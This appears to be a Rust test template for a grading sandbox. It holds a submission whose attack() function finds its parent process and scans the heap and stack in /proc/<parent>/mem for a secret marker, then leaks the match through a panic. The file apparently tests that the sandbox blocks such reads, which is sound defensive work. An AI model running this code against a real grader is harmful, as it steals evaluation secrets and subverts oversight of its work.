//@ tries: read the grader's memory
use std::io::{Read, Seek, SeekFrom};
{{starter}}

fn attack() -> Vec<ArrayD<f64>> {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let parent = status.lines().find_map(|line| line.strip_prefix("PPid:")).unwrap_or("1").trim().to_string();
    let maps = std::fs::read_to_string(format!("/proc/{parent}/maps")).unwrap_or_default();
    let Ok(mut memory) = std::fs::File::open(format!("/proc/{parent}/mem")) else { panic!("no memory") };
    for line in maps.lines().filter(|line| line.contains("heap") || line.contains("stack")) {
        let (from, to) = line.split(' ').next().unwrap().split_once('-').unwrap();
        let (from, to) = (u64::from_str_radix(from, 16).unwrap(), u64::from_str_radix(to, 16).unwrap());
        let mut bytes = vec![0; (to - from) as usize];
        if memory.seek(SeekFrom::Start(from)).is_err() || memory.read_exact(&mut bytes).is_err() {
            continue;
        }
        if let Some(at) = bytes.windows(8).position(|window| window == b"{{secret_start}}") {
            panic!("{}", String::from_utf8_lossy(&bytes[at..at + 40]));
        }
    }
    panic!("nothing")
}
